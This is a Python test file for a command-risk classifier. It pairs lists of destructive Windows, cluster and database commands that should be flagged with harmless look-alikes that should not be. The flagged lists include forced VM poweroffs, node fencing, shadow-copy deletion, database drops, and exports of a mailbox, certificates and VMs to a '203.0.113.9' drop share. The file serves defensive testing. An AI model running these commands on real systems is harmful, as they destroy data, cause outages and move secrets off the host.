"""Stops in a program's own words (power and fence verbs fused into options, fence verbs, devices told off, a
daemon's control program told to stop, raw IPMI chassis bytes, slam/hibernate/pause given every member) and
Windows' own verbs (PowerShell Block/Close/forced Suspend and Move/expiry now/Unblock over folders/
system values cleared/exports to shares; cmd tools' leaving switches, device classes, logons refused, time from
a bare address).  Forms are of programs beyond the ones that showed each class."""
from __future__ import annotations

from tests.safety.kept import assess


def _level(command: str):
    verdict = assess(command)
    return verdict.level if verdict is not None else None


def _misjudged(forms: list, flagged: bool) -> list:
    return [(f, _level(f)) for f in forms if (_level(f) in ("medium", "high")) != flagged]


POWER_WORDS = [
    "bhyvectl --vm=win2022 --force-poweroff",
    "ovirt-shell --hard-poweroff vm1",
    "nodetool --force-shutdown",
    "appctl --poweroff-host h1",
    "hvtool --vm-kill win1",
    "vmctl --node-halt n3",
    "clusterctl --power-cycle node4",
    "pcs stonith fence node2",
    "crm node fence node1",
    "fence_node node3",
    "fence_xvm -H guest7",
    "miiocli plug --ip 10.0.0.9 --token abc off",
    "pyhs100 --host 10.0.0.3 off",
    "tplink_smartplug.py -t 10.0.0.4 -c off",
    "varnishadm -T localhost:6082 stop",
    "opensips-cli -x mi kill",
    "kamcmd core.kill",
    "knotc stop",
    "nsd-control stop",
    "pdns_control quit",
    "ipmi-raw 0 0x00 0x02 0x00",
    "ipmiutil-raw 0x00 0x02 0x03",
    "tomb slam all",
    "vmadm hibernate --all",
    "Save-VM -Name *",
]
POWER_QUIET = [
    "Stop-VM -Name web01",
    "prlctl stop myvm",
    "virsh shutdown web01",
    "sccache --stop-server",
    "kasa --host 10.0.0.7 on",
    "stonith_admin --list-registered",
    "pcs stonith status",
    "myd --shutdown-timeout 30",
    "hvtool --fence-agent=fence_ipmilan",
    "knotc status",
    "varnishadm vcl.list",
    "ipmi-raw 0 0x06 0x01",
    "xset dpms force off",
]


def test_stops_in_a_programs_own_words():
    assert _misjudged(POWER_WORDS, True) == []
    assert _misjudged(POWER_QUIET, False) == []


PS_VERBS = [
    "Block-SmbShareAccess -Name Data -AccountName Everyone -Force",
    "Block-GPInheritance -Target 'OU=Servers,DC=corp,DC=com'",
    "Block-FileShareAccess -Name share1 -AccountName 'Domain Users'",
    "Close-SmbSession -Force",
    "Close-SmbOpenFile -SessionId * -Force",
    "Close-FileShareOpenFile -Force",
    "Suspend-ClusterNode -Name n1 -Drain -ForceDrain",
    "Move-ADDirectoryServerOperationMasterRole -Identity DC2 -OperationMasterRole 0,1,2,3,4 -Force",
    "Move-ClusterGroup -Name SQL -Node n2 -IgnoreLocked",
    "Move-ActiveMailboxDatabase DB1 -ActivateOnServer MBX2 -SkipAllChecks",
    "Set-ADAccountExpiration -Identity bob -DateTime (Get-Date)",
    "Set-ADUser bob -AccountExpirationDate (Get-Date)",
    "Set-MgUser -UserId x -PasswordPolicies x -AccountExpires [datetime]::Now",
    "Unblock-File -Path C:\\Users\\dev\\Downloads\\*",
    "Get-ChildItem C:\\Users\\dev\\Downloads -Recurse | Unblock-File",
    "Clear-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment' -Name Path",
    "Remove-ItemProperty -Path HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate -Name WUServer",
    "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\10.1.1.5\\share\\ceo.pst",
    "New-PublicFolderExportRequest -FilePath \\\\fs\\x\\pf.pst",
    "Export-PfxCertificate -Cert Cert:\\LocalMachine\\My\\ABC -FilePath \\\\203.0.113.9\\drop\\c.pfx -Password $p",
    "Backup-GPO -All -Path \\\\203.0.113.9\\drop",
    "Export-VM -Name db01 -Path \\\\203.0.113.9\\drop",
]
PS_QUIET = [
    "Get-SmbSession",
    "Suspend-ClusterNode -Name n1 -Drain",
    "Close-SmbSession -SessionId 42",
    "Unblock-File -Path C:\\Users\\dev\\Downloads\\tool.zip",
    "Set-ADUser bob -AccountExpirationDate (Get-Date).AddDays(30)",
    "Set-ADAccountExpiration bob -DateTime '12/31/2027'",
    "Move-ADDirectoryServerOperationMasterRole -Identity DC2 -OperationMasterRole 0",
    "Move-ClusterGroup -Name SQL -Node n2",
    "Export-VM -Name db01 -Path D:\\Exports",
    "Reset-WinhttpProxy",
    "Reset-AppxPackage Microsoft.WindowsStore",
    "net use Z: /delete",
    "Block-SmbShareAccess -Name Data -AccountName Everyone -WhatIf",
]


def test_powershell_verbs_beyond_remove_and_stop():
    assert _misjudged(PS_VERBS, True) == []
    assert _misjudged(PS_QUIET, False) == []


SLASH_VERBS = [
    "dsregcmd /leave",
    "ksetup /removerealm CORP.COM",
    "ksetup /delkdc CORP.COM dc1",
    "openfiles /disconnect /a *",
    "slmgr /upk",
    "slmgr /cpky",
    "cscript slmgr.vbs /upk",
    "ospp.vbs /unpkey:ABCDE",
    "certutil -delstore My 1a2b",
    "wbadmin delete catalog -quiet",
    "djoin /unjoin",
    "appcmd /uninstall",
    "devcon disable =net",
    "devcon remove =usb",
    "pnputil /disable-device /class Net",
    "chglogon /disable",
    "change logon /disable",
    "winrs -r:srv01 chglogon /disable",
    "w32tm /config /manualpeerlist:203.0.113.5 /syncfromflags:manual /update",
]
SLASH_QUIET = [
    "w32tm /query /status",
    "w32tm /config /manualpeerlist:time.windows.com /update",
    "w32tm /config /manualpeerlist:10.0.0.1 /update",
    "dsregcmd /status",
    "slmgr /dli",
    "setspn -L web01",
    "devcon status =net",
    "openfiles /query",
    "ksetup /dumpstate",
    "chglogon /query",
    "for /f \"delims=\" %i in (a.txt) do echo %i",
]


def test_windows_tools_own_slash_verbs():
    assert _misjudged(SLASH_VERBS, True) == []
    assert _misjudged(SLASH_QUIET, False) == []


WRITTEN_SCRIPTS = [
    "echo delete shadows all> %TEMP%\\ds.txt && diskshadow /s %TEMP%\\ds.txt",
    "(echo open 10.0.0.5& echo user a b& echo mdelete *)> c.txt & ftp -n -s:c.txt",
    "printf 'drop database prod;\\n' > q.sql; mysql < q.sql",
    "echo \"FLUSHALL\" > r.txt && redis-cli < r.txt",
    "echo \"DROP TABLE users;\" > x.sql && psql -d prod -f x.sql",
    "echo \"rm -r /srv/www\" > b.txt && sftp -b b.txt deploy@web1",
    "echo \"DELETE FROM orders;\" > d.sql; sqlite3 shop.db < d.sql",
    "echo \"db.dropDatabase()\" > m.js && mongosh prod --file m.js",
]
WRITTEN_QUIET = [
    "echo list shadows all> %TEMP%\\ds.txt && diskshadow /s %TEMP%\\ds.txt",
    "(echo open 10.0.0.5& echo user a b& echo ls)> c.txt & ftp -n -s:c.txt",
    "echo hello > a.txt && cat a.txt",
    "printf 'select 1;\\n' > q.sql; mysql < q.sql",
    "echo \"DROP TABLE users;\" > x.sql && psql -d prod -c \"select 1\"",
    "echo \"ls\" > b.txt && sftp -b b.txt deploy@web1",
]


def test_a_script_written_by_echo_then_run_by_a_tools_script_switch():
    assert _misjudged(WRITTEN_SCRIPTS, True) == []
    assert _misjudged(WRITTEN_QUIET, False) == []


NAMED_ENDS = ["wayland-logout", "sway-logout", "hyprland-logout", "labwc-logout --force", "river-logout",
              "niri_logout", "kiosk-logoff"]
NAMED_ENDS_QUIET = ["wayland-logout --help", "sso-logout https://id.example.com/session/42", "cas-logout user1"]


def test_a_program_named_for_the_end_it_brings():
    assert _misjudged(NAMED_ENDS, True) == []
    assert _misjudged(NAMED_ENDS_QUIET, False) == []


NODE_DRAINS = ["nodetool drain", "nodectl decommission", "mesos-maintenance node drain agent7",
               "clusterctl node evacuate n4", "opennebula-host host evacuate 12", "fooctl server drain web3"]
NODE_DRAINS_QUIET = ["nodetool status", "crm node standby node1",
                     "crm node online node1", "patronictl list", "npm run drain",
                     "fooctl server list"]


def test_a_node_drained_or_evacuated_by_any_tool():
    assert _misjudged(NODE_DRAINS, True) == []
    assert _misjudged(NODE_DRAINS_QUIET, False) == []
